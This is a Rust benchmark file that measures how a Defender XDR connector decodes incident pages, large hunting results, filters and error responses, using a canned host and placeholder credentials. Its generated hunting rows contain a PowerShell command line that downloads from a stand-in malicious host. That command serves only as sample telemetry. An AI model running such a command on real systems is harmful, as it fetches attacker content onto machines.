//! What the component does between receiving an answer and returning it, without any network: time and allocations.
//!
//! `cargo bench` times it; `benches/instructions` counts instructions under callgrind, even on a busy machine.

use std::cell::RefCell;
use std::fmt::Write as _;
use std::hint::black_box;
use std::time::Duration;

use defender_xdr::actions::{list_incidents, run_hunting_query};
use defender_xdr::doors::component::finish;
use defender_xdr::graph::refusal;
use defender_xdr::graph::session::Session;
use defender_xdr::request::config::Connection;
use defender_xdr::request::filter;
use defender_xdr::wire::failure::Failure;
use defender_xdr::wire::host::{Host, Request, Response};
use defender_xdr::wit::actions::{HuntingResult, IncidentPage, IncidentQuery};
use defender_xdr::wit::types::{Config, Credential, Error};
use divan::Bencher;
use divan::counter::BytesCount;

#[global_allocator]
static ALLOCATOR: divan::AllocProfiler = divan::AllocProfiler::system();

fn main() {
    divan::main();
}

/// A page of 50 incidents, each with two alerts, typed.
#[divan::bench]
fn page_of_50(bencher: Bencher<'_, '_>) {
    let (connection, body) = (connection(), page(50));
    bencher
        .counter(BytesCount::of_str(&body))
        .with_inputs(|| Canned::new(&body))
        .bench_local_values(|host| decode_page(&host, &connection));
}

/// A hunting result of 10 MB.
#[divan::bench(sample_count = 20)]
fn hunt_of_10_mb(bencher: Bencher<'_, '_>) {
    let (connection, body) = (connection(), hunt(10_000_000));
    bencher
        .counter(BytesCount::of_str(&body))
        .with_inputs(|| Canned::new(&body))
        .bench_local_values(|host| decode_hunt(&host, &connection));
}

/// A filter of several conditions.
#[divan::bench]
fn filter_check() -> Result<(), String> {
    check_filter(black_box(
        "(status eq 'active' or status eq 'inProgress') and severity in ('high', 'medium') and \
         createdDateTime ge 2026-01-01T00:00:00Z and assignedTo eq 'o''hara@contoso.com'",
    ))
}

/// An error of the hunting engine, three levels deep.
#[divan::bench]
fn error_mapping(bencher: Bencher<'_, '_>) {
    let connection = connection();
    let body = r#"{"error":{"code":"BadRequest","message":"'where' operator: Failed to resolve scalar expression named 'RemoteUrll'.",
        "innerError":{"date":"2026-02-25T16:29:33","request-id":"9f39d6b6-8129-47fa-b3c6-bd5f416e643f",
        "client-request-id":"01234567-89ab-4def-8123-456789abcdef","innerError":{"code":"SemanticError"}}}}"#;
    let answer = Response::new(400, vec![("request-id".into(), "9f39d6b6".into())], body.into(), 0);
    bencher.bench_local(|| map_error(&answer, &connection));
}

// Separate functions, so that callgrind can watch each of them.

#[inline(never)]
fn decode_page(host: &Canned, connection: &Connection) -> Result<IncidentPage, Box<Error>> {
    finish(list_incidents::typed(&Session::new(host, connection, ""), &query()))
}

#[inline(never)]
fn decode_hunt(host: &Canned, connection: &Connection) -> Result<HuntingResult, Box<Error>> {
    finish(run_hunting_query::typed(&Session::new(host, connection, ""), "T", Some("P1D")))
}

#[inline(never)]
fn check_filter(filter: &str) -> Result<(), String> {
    filter::INCIDENTS.check(filter)
}

#[inline(never)]
fn map_error(answer: &Response, connection: &Connection) -> Box<Error> {
    refusal::from_answer(answer, connection, 0)
}

/// A host with a token and one prepared answer.
struct Canned {
    answer: RefCell<Vec<u8>>,
}

impl Canned {
    fn new(body: &str) -> Self {
        Self { answer: RefCell::new(body.into()) }
    }
}

impl Host for Canned {
    async fn send(&self, request: &Request<'_>, _: Duration) -> Result<Response, Failure> {
        let body = if request.target.ends_with("/token") {
            br#"{"token_type":"Bearer","expires_in":3599,"access_token":"planted"}"#.to_vec()
        } else {
            self.answer.take()
        };
        Ok(Response::new(200, Vec::new(), body, 0))
    }

    fn now(&self) -> Duration {
        Duration::from_secs(1)
    }

    fn unix_seconds(&self) -> u64 {
        1_771_000_000
    }

    async fn sleep(&self, _: Duration) {}

    fn random(&self) -> u64 {
        0x0123_4567_89ab_cdef
    }
}

fn connection() -> Connection {
    let config = Config {
        tenant_id: "11112222-3333-4444-5555-666677778888".into(),
        client_id: "00001111-aaaa-2222-bbbb-3333cccc4444".into(),
        credential: Credential::ClientSecret("planted".into()),
        timeout_seconds: None,
        verify: None,
        api_version: None,
        cloud: None,
        endpoints: None,
    };
    Connection::new(&config).expect("the configuration is valid")
}

fn query() -> IncidentQuery {
    IncidentQuery {
        filter: None,
        max_results: Some(50),
        skip: None,
        count: Some(true),
        expand: None,
        order_by: None,
        cursor: None,
    }
}

fn page(incidents: usize) -> String {
    let alert = r#"{"id":"da637551227677560813_-961444813","title":"Suspicious PowerShell command line","severity":"medium",
        "status":"new","classification":null,"determination":null,"serviceSource":"microsoftDefenderForEndpoint",
        "detectionSource":"antivirus","category":"Execution","assignedTo":null,"mitreTechniques":["T1059.001","T1105"],
        "alertWebUrl":"https://security.microsoft.com/alerts/da637551227677560813_-961444813",
        "createdDateTime":"2026-02-24T08:43:35Z","lastUpdateDateTime":"2026-02-25T08:43:35Z",
        "evidence":[{"@odata.type":"microsoft.graph.security.deviceEvidence","deviceDnsName":"osl-ws29","roles":["attacked"]}]}"#;
    let incident = format!(
        r#"{{"id":"2972395","tenantId":"b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c","status":"active","severity":"high",
        "classification":"unknown","determination":"unknown","displayName":"Multi-stage incident on \"osl-ws29\"","assignedTo":null,
        "customTags":["Demo"],"systemTags":[],"comments":[{{"comment":"seen","createdByDisplayName":"DavidS",
        "createdDateTime":"2026-02-25T12:07:37.2756993Z"}}],"createdDateTime":"2026-02-24T08:43:35.5533333Z",
        "lastUpdateDateTime":"2026-02-25T09:35:45.1133333Z","incidentWebUrl":"https://security.microsoft.com/incident2/2972395",
        "redirectIncidentId":null,"alerts":[{alert},{alert}]}}"#
    );
    let incidents = vec![incident; incidents].join(",");
    format!(
        r#"{{"@odata.context":"https://graph.microsoft.com/v1.0/$metadata","@odata.count":143,"value":[{incidents}]}}"#
    )
}

fn hunt(bytes: usize) -> String {
    let mut body = String::with_capacity(bytes + 1024);
    body.push_str(r#"{"schema":[{"name":"Timestamp","type":"DateTime"},{"name":"DeviceName","type":"String"},{"name":"RemotePort","type":"Int32"}],"results":["#);
    while body.len() < bytes {
        let port = body.len() % 65_536;
        let _ = write!(
            body,
            r#"{{"Timestamp":"2026-02-25T16:29:33.1433333Z","DeviceName":"osl-ws{port}","RemotePort":{port},"RemoteUrl":"https://malicious.example/\u00e9/{port}","InitiatingProcessCommandLine":"powershell.exe -NoProfile -Command \"iwr https://malicious.example\"","ReportId":null}},"#
        );
    }
    body.pop();
    body.push_str("]}");
    body
}
